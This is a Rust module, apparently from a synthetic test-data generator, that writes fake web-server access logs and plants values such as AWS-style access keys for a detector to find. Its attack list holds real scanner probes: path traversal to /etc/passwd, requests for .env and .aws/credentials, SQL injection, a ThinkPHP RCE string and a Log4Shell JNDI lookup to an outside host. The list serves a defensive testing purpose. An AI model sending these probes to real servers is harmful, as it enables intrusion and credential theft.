//! HTTP access log in Apache/nginx "combined" format.

use crate::engine::RecordGen;
use crate::needles::{Plant, Role};
use crate::out::{push_clf, push_ipv4, push_rand_base32, push_u64};
use crate::rng::{Rng, weighted};
use crate::vocab::Vocab;

/// Static request targets; `#` is replaced by a number.
const PATHS: &[(&str, u32)] = &[
    ("/", 60),
    ("/api/v1/items?id=#", 90),
    ("/api/v1/items/#", 60),
    ("/static/js/app.3f9a1c.js", 40),
    ("/static/css/main.8b2e4d.css", 40),
    ("/static/img/logo.png", 30),
    ("/favicon.ico", 25),
    ("/api/v1/users/#", 30),
    ("/api/v1/orders?page=#&limit=50", 25),
    ("/api/v1/search?q=shoes", 10),
    ("/api/v1/search?q=red+dress", 5),
    ("/products/#", 40),
    ("/cart", 10),
    ("/checkout", 5),
    ("/login", 15),
    ("/logout", 5),
    ("/account/settings", 5),
    ("/robots.txt", 5),
    ("/graphql", 15),
    ("/api/v2/events", 10),
    ("/blog/2023/12/year-in-review", 3),
    ("/sitemap.xml", 3),
    ("/api/v1/artifacts/", 4),
];
const ATTACKS: &[&str] = &[
    "/wp-login.php",
    "/xmlrpc.php",
    "/.env",
    "/../../etc/passwd",
    "/cgi-bin/../../../../etc/passwd",
    "/manager/html",
    "/phpmyadmin/index.php",
    "/.git/config",
    "/actuator/env",
    "/boaform/admin/formLogin",
    "/owa/auth/logon.aspx",
    "/HNAP1/",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/cgi-bin/luci/;stok=/locale",
    "/solr/admin/info/system?wt=json",
    "/api/v1/items?id=1%27%20OR%20%271%27=%271",
    "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5",
    "/?XDEBUG_SESSION_START=phpstorm",
    "/wp-content/plugins/wp-file-manager/readme.txt",
    "/server-status",
    "/.aws/credentials",
    "/admin/config.php",
];
const BROWSERS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.2 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.2 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.6099.144 Mobile Safari/537.36",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "okhttp/4.12.0",
];
const TOOLS: &[&str] = &[
    "curl/7.88.1",
    "python-requests/2.31.0",
    "Go-http-client/1.1",
    "Mozilla/5.0 zgrab/0.x",
    "sqlmap/1.7.2#stable (https://sqlmap.org)",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "${jndi:ldap://a.oast.fun/x}",
];
const REFERERS: &[&str] = &[
    "-",
    "-",
    "-",
    "-",
    "https://www.example.com/",
    "https://www.example.com/products/",
    "https://www.google.com/",
    "https://www.bing.com/",
    "https://t.co/Xa1b2C3d",
];

/// Record generator for one access log file.
pub(crate) struct Gen<'a> {
    v: &'a Vocab,
    rng: Rng,
    path_weights: Vec<u32>,
}

impl<'a> Gen<'a> {
    pub(crate) fn new(v: &'a Vocab, rng: Rng, _file: usize) -> Self {
        let path_weights = PATHS.iter().map(|p| p.1).collect();
        Gen {
            v,
            rng,
            path_weights,
        }
    }

    fn client(&mut self, out: &mut Vec<u8>) {
        match weighted(&mut self.rng, &[85, 10, 5]) {
            0 => push_ipv4(out, self.v.external_ip(&mut self.rng)),
            1 => push_ipv4(out, self.v.internal_ip(&mut self.rng).1),
            _ => out.extend_from_slice(self.v.external_ip6(&mut self.rng).as_bytes()),
        }
    }

    fn open(&mut self, out: &mut Vec<u8>, t: i64, user: Option<&[u8]>) {
        out.extend_from_slice(b" - ");
        out.extend_from_slice(user.unwrap_or(b"-"));
        out.extend_from_slice(b" [");
        push_clf(out, t);
        out.extend_from_slice(b"] \"");
    }

    fn close(&mut self, out: &mut Vec<u8>, status: u64, bytes: u64, ua: &str) {
        out.extend_from_slice(b" HTTP/1.1\" ");
        push_u64(out, status);
        out.push(b' ');
        push_u64(out, bytes);
        out.extend_from_slice(b" \"");
        out.extend_from_slice(self.rng.pick(REFERERS).as_bytes());
        out.extend_from_slice(b"\" \"");
        out.extend_from_slice(ua.as_bytes());
        out.extend_from_slice(b"\"\n");
    }

    fn target(&mut self, out: &mut Vec<u8>) {
        let (path, _) = PATHS[weighted(&mut self.rng, &self.path_weights)];
        if path == "/api/v1/artifacts/" {
            out.extend_from_slice(path.as_bytes());
            self.v.push_sha256(out, self.rng.below(200), false);
            return;
        }
        for part in path.split_inclusive('#') {
            match part.strip_suffix('#') {
                Some(p) => {
                    out.extend_from_slice(p.as_bytes());
                    push_u64(out, self.rng.skewed(1, 99_999));
                }
                None => out.extend_from_slice(part.as_bytes()),
            }
        }
    }

    fn planted(&mut self, out: &mut Vec<u8>, t: i64, p: Plant) -> &'static str {
        match p.role {
            Role::Ipv4 | Role::Ipv6 => {
                out.extend_from_slice(p.value.as_bytes());
                self.open(out, t, None);
                out.extend_from_slice(b"GET ");
                self.target(out);
                let ua = *self.rng.pick(BROWSERS);
                let n = self.rng.skewed(200, 200_000);
                self.close(out, 200, n, ua);
                return "remote_addr";
            }
            Role::User => {
                self.client(out);
                self.open(out, t, Some(p.value.as_bytes()));
                out.extend_from_slice(b"GET /admin/reports");
            }
            Role::AccessKey => {
                self.client(out);
                self.open(out, t, None);
                out.extend_from_slice(b"GET /exports/2024/report.csv?AWSAccessKeyId=");
                out.extend_from_slice(p.value.as_bytes());
                out.extend_from_slice(b"&Expires=");
                push_u64(out, t as u64 + 3_600);
                out.extend_from_slice(b"&Signature=");
                push_rand_base32(out, &mut self.rng, 27);
                out.extend_from_slice(b"%3D");
            }
            Role::Sha256 => {
                self.client(out);
                self.open(out, t, None);
                out.extend_from_slice(b"GET /api/v1/artifacts/");
                out.extend_from_slice(p.value.as_bytes());
            }
            _ => {
                self.client(out);
                self.open(out, t, None);
                out.extend_from_slice(b"GET ");
                out.extend_from_slice(p.value.as_bytes());
            }
        }
        let ua = *self.rng.pick(TOOLS);
        let n = self.rng.skewed(100, 50_000);
        self.close(out, 200, n, ua);
        if p.role == Role::User {
            "remote_user"
        } else {
            "request"
        }
    }
}

impl RecordGen for Gen<'_> {
    fn record(&mut self, out: &mut Vec<u8>, t: i64, plant: Option<Plant>) -> &'static str {
        if let Some(p) = plant {
            return self.planted(out, t, p);
        }
        if self.rng.chance(400) {
            // Scanners probing for well-known weaknesses.
            push_ipv4(out, self.v.external_ip(&mut self.rng));
            self.open(out, t, None);
            out.extend_from_slice(if self.rng.chance(8_000) {
                b"GET "
            } else {
                b"POST "
            });
            out.extend_from_slice(self.rng.pick(ATTACKS).as_bytes());
            let status = [404, 404, 404, 403, 400, 200][self.rng.index(6)];
            let ua = *self.rng.pick(TOOLS);
            let n = self.rng.range(150, 600);
            self.close(out, status, n, ua);
            return "";
        }
        let lb_check = self.rng.chance(300);
        if lb_check {
            push_ipv4(out, self.v.internal_ip(&mut self.rng).1);
            self.open(out, t, None);
            out.extend_from_slice(b"GET /healthz");
            self.close(out, 200, 2, "ELB-HealthChecker/2.0");
            return "";
        }
        self.client(out);
        let user = if self.rng.chance(150) {
            Some(self.v.user(&mut self.rng).1.as_bytes())
        } else {
            None
        };
        self.open(out, t, user);
        let method = weighted(&mut self.rng, &[850, 100, 20, 15, 10, 5]);
        out.extend_from_slice(
            [
                &b"GET "[..],
                b"POST ",
                b"HEAD ",
                b"PUT ",
                b"DELETE ",
                b"OPTIONS ",
            ][method],
        );
        self.target(out);
        let status = if method == 1 {
            [200u64, 201, 201, 302, 400, 401, 422, 500]
                [weighted(&mut self.rng, &[50, 25, 10, 5, 4, 3, 2, 1])]
        } else {
            [200u64, 304, 301, 302, 404, 401, 403, 500, 502]
                [weighted(&mut self.rng, &[850, 60, 15, 15, 30, 10, 10, 5, 5])]
        };
        let bytes = match status {
            304 => 0,
            200 | 201 if method != 2 => self.rng.skewed(120, 250_000),
            _ => self.rng.range(0, 700),
        };
        let ua = if self.rng.chance(9_300) {
            *self.rng.pick(BROWSERS)
        } else {
            *self.rng.pick(TOOLS)
        };
        self.close(out, status, bytes, ua);
        ""
    }
}
